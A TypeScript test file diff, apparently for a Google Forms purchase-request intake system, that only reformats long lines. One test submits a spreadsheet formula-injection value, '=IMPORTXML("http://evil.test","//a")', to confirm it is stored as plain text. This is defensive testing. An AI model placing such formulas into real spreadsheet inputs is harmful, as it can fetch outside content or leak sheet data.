@@ -23,7 +23,8 @@ const fields = (t: IntakeWorld, i = 0) => {
   const r = t.rows('Requests')[i]!;
   return JSON.parse([r.Fields, ...[2, 3, 4, 5].map((n) => r[`Fields (${n})`] ?? '')].join('')) as Record<string, unknown>;
 };
-const meta = (t: IntakeWorld, i = 0) => JSON.parse(String(t.rows('Requests')[i]!.Meta)) as { intakeProblems: Array<{ path: string; message: string }> };
+const meta = (t: IntakeWorld, i = 0) =>
+  JSON.parse(String(t.rows('Requests')[i]!.Meta)) as { intakeProblems: Array<{ path: string; message: string }> };
 
 describe('intake: bad answers still make a request, waiting in Needs info', () => {
   it('lists each problem, emails the requester each problem and the edit link', () => {
@@ -33,7 +34,9 @@ describe('intake: bad answers still make a request, waiting in Needs info', () =
     expect(sub.runs[0]!.result).toMatchObject({ status: 'created', state: 'needs_info' });
     const [req] = t.rows('Requests');
     expect(req).toMatchObject({ State: 'needs_info', Channel: 'form', Assignee: RITA });
-    const problems = meta(t).intakeProblems.map((p) => p.path).sort();
+    const problems = meta(t)
+      .intakeProblems.map((p) => p.path)
+      .sort();
     expect(problems).toEqual(['amount', 'costCenter', 'justification', 'neededBy']);
     expect(fields(t)).toMatchObject({ item: 'Laptop', amount: 'lots', costCenter: 'Legal' }); // kept as given, visible
     expect(t.rows('Audit').map((a) => a.Action)).toEqual(['create', 'intake_problems']);
@@ -53,7 +56,11 @@ describe('intake: bad answers still make a request, waiting in Needs info', () =
     const sub = t.w.forms.submitAs(formId, RITA, bad);
     const partial = t.w.forms.editAs(sub.responseId, { Amount: '1,250.50', 'Cost centre': 'Sales' });
     expect(partial.runs[0]!.result).toMatchObject({ status: 'updated', state: 'needs_info' });
-    expect(meta(t).intakeProblems.map((p) => p.path).sort()).toEqual(['justification', 'neededBy']);
+    expect(
+      meta(t)
+        .intakeProblems.map((p) => p.path)
+        .sort(),
+    ).toEqual(['justification', 'neededBy']);
     expect(fields(t)).toMatchObject({ amount: 1250.5, costCenter: 'Sales' });
     const edit = t.rows('Audit').at(-1)!;
     expect(edit).toMatchObject({ Action: 'edit_fields', Actor: RITA, Method: 'form_response', Revision: 2 });
@@ -76,12 +83,24 @@ describe('intake: bad answers still make a request, waiting in Needs info', () =
   it('an edit after the request moved on is recorded for review; the approved request is not changed', () => {
     const t = intakeWorld();
     const link = t.generate();
-    const sub = t.w.forms.submitAs(link.formId, RITA, { Item: 'Laptop', Amount: '1200', 'Cost centre': 'Engineering', Justification: 'new hire' });
+    const sub = t.w.forms.submitAs(link.formId, RITA, {
+      Item: 'Laptop',
+      Amount: '1200',
+      'Cost centre': 'Engineering',
+      Justification: 'new hire',
+    });
     // Before any decision, an edit in the start state applies.
     const early = t.w.forms.editAs(sub.responseId, { Vendor: 'Acme' });
     expect(early.runs[0]!.result).toMatchObject({ status: 'updated', state: 'approval' });
     expect(fields(t)).toMatchObject({ vendor: 'Acme' });
-    t.as(MAX, () => applyActionCommand(t.ctx(), { requestId: 'PR-000001', expectedRevision: 2, action: { type: 'approve' }, actor: { email: MAX, method: 'session' } }));
+    t.as(MAX, () =>
+      applyActionCommand(t.ctx(), {
+        requestId: 'PR-000001',
+        expectedRevision: 2,
+        action: { type: 'approve' },
+        actor: { email: MAX, method: 'session' },
+      }),
+    );
     const before = t.rows('Requests')[0];
     expect(before!.State).toBe('ordering');
     const late = t.w.forms.editAs(sub.responseId, { Amount: '9999' }, { deliveries: 2 });
@@ -109,7 +128,11 @@ describe('intake: nothing is lost', () => {
     expect(errors[0]).toMatchObject({ Kind: 'unmappable', Status: 'open', Workflow: 'purchase-approval', Respondent: RITA });
     expect(String(errors[0]!.Reason)).toContain('"Justification" is no longer on it');
     const raw = JSON.parse(String(errors[1]!['Raw response'])) as { answers: Array<{ title: string; value: string }> };
-    expect(raw.answers.map((a) => [a.title, a.value])).toEqual([['Item', 'Thing 2'], ['Amount', '10'], ['Cost centre', 'Sales']]);
+    expect(raw.answers.map((a) => [a.title, a.value])).toEqual([
+      ['Item', 'Thing 2'],
+      ['Amount', '10'],
+      ['Cost centre', 'Sales'],
+    ]);
     const alerts = t.w.mail.outbox().filter((m) => /need attention/.test(m.subject));
     expect(alerts).toHaveLength(1); // once, not once per response
 
@@ -141,7 +164,12 @@ describe('intake: nothing is lost', () => {
     const t = intakeWorld();
     const link = t.generate();
     const long = Array.from({ length: 65_000 }, (_, i) => String.fromCharCode(97 + (i % 26))).join('');
-    t.w.forms.submitAs(link.formId, RITA, { Item: '=IMPORTXML("http://evil.test","//a")', Amount: '3', 'Cost centre': 'Sales', Justification: long });
+    t.w.forms.submitAs(link.formId, RITA, {
+      Item: '=IMPORTXML("http://evil.test","//a")',
+      Amount: '3',
+      'Cost centre': 'Sales',
+      Justification: long,
+    });
     const ss = t.w.kernel.meter.unmetered(() => t.services.SpreadsheetApp.openById(t.spreadsheetId).getSheetByName('Requests')!);
     const summaryCol = (t.sheet.values('Requests')[0] as string[]).indexOf('Summary') + 1;
     const cell = t.w.kernel.meter.unmetered(() => ss.getRange(2, summaryCol));
@@ -150,7 +178,10 @@ describe('intake: nothing is lost', () => {
     const f = fields(t);
     expect(f.item).toBe('=IMPORTXML("http://evil.test","//a")');
     expect((f.justification as string).length).toBe(50_000);
-    const overflow = t.rows('Audit').filter((a) => a.Action === 'intake_overflow').map((a) => JSON.parse(String(a.Details)) as { text: string; offset: number });
+    const overflow = t
+      .rows('Audit')
+      .filter((a) => a.Action === 'intake_overflow')
+      .map((a) => JSON.parse(String(a.Details)) as { text: string; offset: number });
     expect(overflow.length).toBeGreaterThan(0);
     expect((f.justification as string) + overflow.map((o) => o.text).join('')).toBe(long);
     expect(overflow[0]!.offset).toBe(50_000);
